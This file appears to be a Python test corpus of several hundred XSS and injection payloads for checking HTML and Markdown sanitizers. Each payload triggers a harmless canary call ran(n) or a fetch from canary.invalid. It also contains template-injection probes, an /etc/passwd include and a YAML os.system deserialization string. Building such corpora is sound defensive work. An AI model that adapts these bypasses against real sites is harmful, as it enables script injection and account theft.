"""What attackers write. Each calls `ran(<its number>)`, or loads a file of that name, where it is
taken for markup, style or script."""

from __future__ import annotations

from base64 import b64encode
from urllib.parse import quote

_NUMBER = "№"  # stands for the number of a payload in the texts below
_MARKUP = r"""
<script>ran(№)</script>
<ScRiPt>ran(№)</sCrIpT>
<script src=//canary.invalid/№></script>
<script src=data:text/javascript,ran(№)></script>
<script type=module>ran(№)</script>
<script/x>ran(№)</script >
<script>ran(№)//
<<script>ran(№)//<</script>
<scr<script>ipt>ran(№)</scr</script>ipt>
</script><script>ran(№)</script>
</title><script>ran(№)</script>
</textarea><script>ran(№)</script>
</style><script>ran(№)</script>
</noscript><script>ran(№)</script>
</template><script>ran(№)</script>
</code></pre><script>ran(№)</script>
--><script>ran(№)</script><!--
<!--><script>ran(№)</script>-->
]]><script>ran(№)</script>
<![CDATA[<script>ran(№)</script>]]>
<!--<script>--><img src=x onerror=ran(№)>
<img src=x onerror=ran(№)>
<img src=x onerror="ran(№)">
<img src=x:x onerror='ran(№)'>
<img/src=x/onerror=ran(№)>
<IMG SRC=x ONERROR=ran(№)>
<img src=x onerror=ran(№)//
<img src onerror=ran(№)>
<img src=x onerror=&#114;an(№)>
<img src=x onerror=ran&lpar;№&rpar;>
<img src=x onerror=ran&#40№&#41>
<img src=`x`onerror=ran(№)>
<img src=//canary.invalid/№>
<img srcset="//canary.invalid/№ 1x">
<image src=x onerror=ran(№)>
<svg onload=ran(№)>
<svg/onload=ran(№)>
<svg><script>ran(№)</script></svg>
<svg><script href=data:text/javascript,ran(№) /></svg>
<svg><style><img src=x onerror=ran(№)></style></svg>
<svg><animate onbegin=ran(№) attributeName=x dur=1s>
<svg><set onbegin=ran(№) attributeName=x to=1>
<svg><a href=javascript:ran(№)><text y=9>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:ran(№) /><text y=9>x</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.ran(№)</script>"></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=ran(№)>#x">
<math><mtext><img src=x onerror=ran(№)></mtext></math>
<math href=javascript:ran(№)>x</math>
<math><a xlink:href=javascript:ran(№)>x</a></math>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=ran(№)>">
<math><annotation-xml encoding=text/html><img src=x onerror=ran(№)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(№)>
<body onload=ran(№)>
<body onpageshow=ran(№)>
<html onmouseover=ran(№)>
<iframe src=javascript:parent.ran(№)>
<iframe srcdoc="<script>parent.ran(№)</script>">
<iframe onload=ran(№)>
<iframe src="data:text/html,<script>parent.ran(№)</script>">
<object data=javascript:parent.ran(№)>
<object data="data:text/html,<script>parent.ran(№)</script>">
<embed src=javascript:parent.ran(№)>
<embed src=//canary.invalid/№>
<link rel=stylesheet href=//canary.invalid/№>
<link rel=stylesheet href=data:, onload=ran(№)>
<link rel=preload as=image href=//canary.invalid/№>
<style>@import'//canary.invalid/№';</style>
<style>*{background:url(//canary.invalid/№)}</style>
<style onload=ran(№)></style>
<div style="background:url(//canary.invalid/№)">x</div>
<div style=animation-name:x onanimationstart=ran(№)>x</div><style>@keyframes x{}</style>
<meta http-equiv=refresh content="0;url=javascript:ran(№)">
<meta http-equiv=refresh content="0;url=//canary.invalid/№">
<base href=//canary.invalid/№/>
<video src=x onerror=ran(№)>
<video><source onerror=ran(№)></video>
<video poster=//canary.invalid/№></video>
<audio src=x onerror=ran(№)>
<details open ontoggle=ran(№)><summary>x</summary></details>
<marquee onstart=ran(№)>x</marquee>
<input autofocus onfocus=ran(№)>
<select autofocus onfocus=ran(№)>
<textarea autofocus onfocus=ran(№)>
<button autofocus onfocus=ran(№)>x</button>
<a href=# autofocus tabindex=0 onfocus=ran(№)>x</a>
<x tabindex=0 autofocus onfocus=ran(№)>x</x>
<x onclick=ran(№)>x</x>
<x contenteditable autofocus onfocus=ran(№)>x</x>
<a href=javascript:ran(№)>x</a>
<a href="&#106;avascript:ran(№)">x</a>
<a href="java&Tab;script:ran(№)">x</a>
<a href="javascript&colon;ran(№)">x</a>
<form action=javascript:ran(№)><input type=submit></form>
<form><button formaction=javascript:ran(№)>x</button></form>
<isindex action=javascript:ran(№) type=image>
<table background=//canary.invalid/№><tr><td>x</table>
<template><img src=x onerror=ran(№)></template>
<template shadowrootmode=open><img src=x onerror=ran(№)></template>
<noscript><p title="</noscript><img src=x onerror=ran(№)>">
<xmp><p title="</xmp><img src=x onerror=ran(№)>">
<plaintext><img src=x onerror=ran(№)>
<title><img title="</title><img src=x onerror=ran(№)>">
<select><style></select><img src=x onerror=ran(№)></style></select>
<dialog open onclose=ran(№)><form method=dialog><button autofocus>x</button></form></dialog>
<portal src=//canary.invalid/№></portal>
<object type=text/html data=//canary.invalid/№></object>
&lt;img src=x onerror=ran(№)&gt;
&#60;img src=x onerror=ran(№)&#62;
&amp;lt;script&amp;gt;ran(№)&amp;lt;/script&amp;gt;
＜script＞ran(№)＜/script＞
"""
_BREAKERS = r"""
" onfocus=ran(№) autofocus tabindex=0 x="
' onfocus=ran(№) autofocus tabindex=0 x='
" onmouseover=ran(№) style="position:fixed;inset:0
"><img src=x onerror=ran(№)>
'><img src=x onerror=ran(№)>
`><img src=x onerror=ran(№)>
"'><svg/onload=ran(№)>
x onerror=ran(№) x
"/><script>ran(№)</script>
"});ran(№);({"
'});ran(№);({'
";ran(№);//
';ran(№);//
\";ran(№);//
\';ran(№);//
*/ran(№);/*
`-ran(№)-`
${ran(№)}
`${ran(№)}`
"-ran(№)-"
'-ran(№)-'
"+ran(№)+"
\u003cscript>ran(№)</script>
\x3cimg src=x onerror=ran(№)>
{"__proto__":{"x":"<img src=x onerror=ran(№)>"}}
{{7*7}}<b>ran(№)</b>
{{constructor.constructor('ran(№)')()}}
{{''.__class__.__mro__[1].__subclasses__()}}<img src=x onerror=ran(№)>
{% raw %}<script>ran(№)</script>{% endraw %}
{% include "/etc/passwd" %}<script>ran(№)</script>
{# <script>ran(№)</script> #}
<%= ran(№) %><script>ran(№)</script>
#{ran(№)}<script>ran(№)</script>
[[${ran(№)}]]<script>ran(№)</script>
<?php ran(№) ?><script>ran(№)</script>
expression(ran(№))
x:expression(ran(№))
}*{background:url(//canary.invalid/№)}
red;background:url(//canary.invalid/№)
url(//canary.invalid/№)
!!python/object/apply:os.system ["<script>ran(№)</script>"]
*alias &anchor <<: <script>ran(№)</script>
"""
_ADDRESSES = r"""
javascript:ran(№)
JaVaScRiPt:ran(№)
 javascript:ran(№)
javascript://%0aran(№)
javascript:/*-->*/ran(№)
javascript&colon;ran(№)
&#106;avascript:ran(№)
&#x6A&#x61&#x76&#x61script:ran(№)
java%73cript:ran(№)
javascript%3Aran(№)
vbscript:ran(№)
data:text/html,<script>parent.ran(№)</script>
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran(№)'/>
blob:javascript:ran(№)
view-source:javascript:ran(№)
//canary.invalid/№
\\canary.invalid/№
/\canary.invalid/№
https:canary.invalid/№
"""
_MARKDOWN = r"""
[x](javascript:ran(№))
[x](<javascript:ran(№)>)
[x]( javascript:ran(№) "x")
[x](JAVASCRIPT:ran(№))
[x](javascript&#58;ran(№))
[x](&#106;avascript:ran(№))
[x](java\script:ran(№))
[x](data:text/html,<script>ran(№)</script>)
[x](node:"><img/src=x/onerror=ran(№)>)
[x](group:<svg/onload=ran(№)>)
[x](# "onclick=ran(№) x")
[x](#"onmouseover=ran(№))
![x](javascript:ran(№))
![x](x"onerror="ran(№))
![" onerror="ran(№)](x)
![x](x "\" onerror=\"ran(№)")
<javascript:ran(№)>
<javascript&colon;ran(№)>
[x]: javascript:ran(№)
[a]: x "\"><img src=x onerror=ran(№)>"
[^<img src=x onerror=ran(№)>]
[^1]: <img src=x onerror=ran(№)>
| <img src=x onerror=ran(№)> | [x](javascript:ran(№)) |
# <img src=x onerror=ran(№)> {onclick=ran(№)}
`<img src=x onerror=ran(№)>`
> <script>ran(№)</script>
- <details open ontoggle=ran(№)>
$\href{javascript:ran(№)}{x}$
$\unicode{<img src=x onerror=ran(№)>}$
$\text{<img src=x onerror=ran(№)>}$
$$\class{x" onclick="ran(№)}{x}$$
$\htmlData{x=1}{\url{javascript:ran(№)}}$
::: circuit "><script>ran(№)</script>
::: <img src=x onerror=ran(№)>
~~~<img/src=x/onerror=ran(№)>
```" onload=ran(№) x="
~~~html onmouseover=ran(№)
"""


def _odd_letters() -> list[str]:
    image, script = "<img src=x onerror=ran(№)>", "<script>ran(№)</script>"
    wide = "<img src=x onerror=\uff52\uff41\uff4e(№)>"
    return [
        f"\u2028{script}",
        f"\u2029{image}",
        f"</script\u2028>{script}",
        f"\u202e{image}",
        f"\ufeff{script}",
        f"\u00a0{image}",
        f"\u0085{script}",
        f"\u200b<\u200bscript>ran(№)</script>{image}",
        f"<\u0131mg src=x onerror=ran(№)>{image}",
        "<\u017fcript>ran(№)</\u017fcript>",
        "<img\u000csrc=x\u000conerror=ran(№)>",
        "<img\tsrc=x\tonerror=ran(№)>",
        "<img\nsrc=x\nonerror=ran(№)>",
        "<img\rsrc=x\ronerror=ran(№)>",
        "<a href='java\tscript:ran(№)'>x</a>",
        "<a href='java\nscript:ran(№)'>x</a>",
        "<a href='\x01javascript:ran(№)'>x</a>",
        "[x](java\tscript:ran(№))",
        "[x](\u00a0javascript:ran(№))",
        "[x](java\u00adscript:ran(№))",
        f"\x00{script}",
        f"<scr\x00ipt>ran(№)</scr\x00ipt>{script}",
        f"{wide}{image}",
        "<script\n>ran(№)</script\n>",
        quote(script),
        "+ADw-script+AD4-ran(№)+ADw-/script+AD4-",
        "\u00bcscript\u00beran(№)\u00bc/script\u00be",
        "a" * 150 + "<svg/onload=ran(№)>",
    ]


def payloads() -> list[str]:
    """All of them; number `n` of the list calls `ran(n)`."""
    lines = f"{_MARKUP}\n{_BREAKERS}\n{_ADDRESSES}\n{_MARKDOWN}".split("\n")
    texts = [*filter(str.strip, lines), *_odd_letters()]
    found = [_numbered(text, number) for number, text in enumerate(texts)]
    encoded = b64encode(f"<script>parent.ran({len(found)})</script>".encode()).decode()
    return [*found, f"data:text/html;base64,{encoded}"]


def _numbered(text: str, number: int) -> str:
    return text.replace(_NUMBER, str(number)).replace(quote(_NUMBER), str(number))
